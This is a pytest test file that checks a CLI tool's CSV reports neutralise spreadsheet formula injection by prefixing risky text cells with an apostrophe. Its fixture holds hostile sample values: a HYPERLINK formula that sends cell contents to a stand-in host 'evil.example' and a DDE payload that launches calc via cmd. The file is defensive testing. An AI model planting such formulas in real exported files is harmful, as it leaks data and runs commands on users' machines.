"""CSV reports opened in a spreadsheet: a text cell that begins as a formula would (`=`, `+`, `-`,
`@`, whitespace, NUL) is written with an apostrophe before it, so that a spreadsheet shows it as text
instead of running it; numbers are never touched, and removing one leading apostrophe from any cell
gives every value of the JSON back exactly. Hostile ids, names, a reason and an actor, through the
real CLI, on each database."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal, InvalidOperation

import pytest

PERIOD = "2026-11"
# Names a spreadsheet would run (ids and names may hold any printable text; control characters are
# refused in names, so whitespace is tried as a leading space).
MANIFEST = {
    "consortium": {"name": "=Consortium", "unit": "NCU"},
    "accelerators": [{"id": "gpu", "rate": 1.5}],
    "members": [
        {"id": "=evil", "name": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
        {"id": "-5", "name": "+1+cmd|' /C calc'!A0"},
        {"id": "@at", "name": "@SUM(1+1)"},
        {"id": "plain", "name": " =1+1"},
        {"id": "'quoted", "name": "'already text"},
    ],
    "pools": [{"id": "=pool", "member": "=evil", "accelerator": "gpu", "capacity": 100},
              {"id": "-pool", "member": "-5", "accelerator": "gpu", "capacity": 100}],
    "projects": [{"id": "@proj", "sponsors": {"=evil": 1, "@at": 1}, "demand": 400},
                 {"id": "+proj", "sponsors": {"'quoted": 1}, "demand": 100}],
}
USAGE = ('project,pool,device_hours,start,end\n'
         '@proj,-pool,30,2026-11-02T00:00:00,2026-11-03T00:00:00\n'
         '+proj,=pool,10,2026-11-02T00:00:00,2026-11-03T00:00:00\n')
STARTS_A_FORMULA = ("=", "+", "-", "@", "\0")


@pytest.fixture
def hostile(cli, tmp_path, monkeypatch):
    (tmp_path / "hostile.json").write_text(json.dumps(MANIFEST), encoding="utf-8")
    (tmp_path / "usage.csv").write_text(USAGE, encoding="utf-8")
    assert cli("init").exit_code == 0
    assert cli("apply", tmp_path / "hostile.json").exit_code == 0
    monkeypatch.setenv("POOLER_ACTOR", "-actor@=evil")
    assert cli("alloc", "run", "--period", PERIOD, "--reason", "=1+1 rerun").exit_code == 0
    assert cli("usage", "import", tmp_path / "usage.csv", "--format", "csv").exit_code == 0
    return cli


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
        return True
    except InvalidOperation:
        return False


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _check_no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in STARTS_A_FORMULA or cell[:1].isspace():
                assert _number(cell), (row["section"], column, cell)  # only numbers, such as -7.5


def _unguarded(rows: list[dict[str, str]], section: str, column: str) -> list[str]:
    from pooler.reports.render_csv import unguard

    return [unguard(r[column]) for r in rows if r["section"] == section]


def test_the_audit_csv_writes_no_formula_and_gives_every_value_back(hostile):
    rows = _rows(hostile("report", "audit", "--period", PERIOD, "--format", "csv").stdout)
    data = json.loads(hostile("report", "audit", "--period", PERIOD, "--format", "json").stdout)
    _check_no_cell_starts_a_formula(rows)
    # the JSON is exact: no marker there
    names = {m["member"]: m["name"] for m in data["members"]}
    assert names == {m["id"]: m["name"] for m in MANIFEST["members"]}
    assert (data["run"]["reason"], data["run"]["actor"]) == ("=1+1 rerun", "-actor@=evil")
    # the marked cells, as a spreadsheet shows them (text, starting with the apostrophe)
    members = {r["member"]: r for r in rows if r["section"] == "members"}
    assert members["'=evil"]["name"] == "'" + names["=evil"]
    assert members["'-5"]["name"] == "'+1+cmd|' /C calc'!A0"
    assert members["plain"]["name"] == "' =1+1"  # a leading space an import might trim
    assert members["''quoted"]["name"] == "''already text"  # so that the marker can always be removed
    [run] = [r for r in rows if r["section"] == "run"]
    assert (run["reason"], run["actor"]) == ("'=1+1 rerun", "'-actor@=evil")
    # removing one leading apostrophe gives the JSON's values back, text and numbers alike
    for section, key in (("members", "member"), ("projects", "project"), ("pools", "pool"), ("flows", "lender")):
        json_rows = data[section]
        for column in json_rows[0]:
            if column in ("capacity", "granted", "used") and section == "pools":
                continue  # (device-hours columns, named for their unit in the CSV)
            want = ["" if r[column] is None else str(r[column]).lower() if isinstance(r[column], bool)
                    else str(r[column]) for r in json_rows]
            assert _unguarded(rows, section, column) == want, (section, column)
    # numbers stay numbers: a negative balance is written as it is, never marked
    balances = {m["member"]: m["balance"] for m in data["members"]}
    assert balances["=evil"] == "-7.5" and members["'=evil"]["balance"] == "-7.5"
    assert Decimal(members["''quoted"]["balance"]) == Decimal(balances["'quoted"]) < 0


def test_a_member_statement_csv_writes_no_formula(hostile):
    rows = _rows(hostile("report", "member", "=evil", "--period", PERIOD, "--format", "csv").stdout)
    _check_no_cell_starts_a_formula(rows)
    [statement] = [r for r in rows if r["section"] == "statement"]
    assert (statement["member"], statement["balance"]) == ("'=evil", "-7.5")
    assert _unguarded(rows, "projects", "project") == ["@proj"]
    assert _unguarded(rows, "counterparties", "member") == ["'quoted", "-5"]


def test_notes_are_marked_too(hostile, tmp_path):
    """A note begins with an id (a project outside the run, here): marked as any text cell."""
    assert hostile("project", "add", "=late", "--sponsor", "@at=1", "--demand", "10").exit_code == 0
    (tmp_path / "late.csv").write_text("project,pool,device_hours,start,end\n"
                                       "=late,=pool,2,2026-11-20T00:00:00,2026-11-21T00:00:00\n", encoding="utf-8")
    assert hostile("usage", "import", tmp_path / "late.csv", "--format", "csv").exit_code == 0
    rows = _rows(hostile("report", "audit", "--period", PERIOD, "--format", "csv").stdout)
    _check_no_cell_starts_a_formula(rows)
    data = json.loads(hostile("report", "audit", "--period", PERIOD, "--format", "json").stdout)
    assert data["notes"][0].startswith("=late is not in this run")
    assert _unguarded(rows, "notes", "note") == data["notes"]


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\0", "'\0"), (" =1", "' =1"), ("\u3000=1", "'\u3000=1"),
    ("'x", "''x"), ("gz-lab", "gz-lab"), ("", ""), ("1-2", "1-2"), ("a=b", "a=b"),
])
def test_the_rule_for_a_text_cell(text, written):
    from pooler.reports.render_csv import _text, guard, unguard

    assert guard(text) == _text(text) == written
    assert unguard(written) == text


@pytest.mark.parametrize("value, written", [
    (Decimal("-5"), "-5"), (Decimal("-0.000001"), "-0.000001"), (-3, "-3"), (Decimal("+2"), "2"), (True, "true"),
    (None, ""),
])
def test_numbers_booleans_and_missing_values_are_never_marked(value, written):
    from pooler.reports.render_csv import _text

    assert _text(value) == written
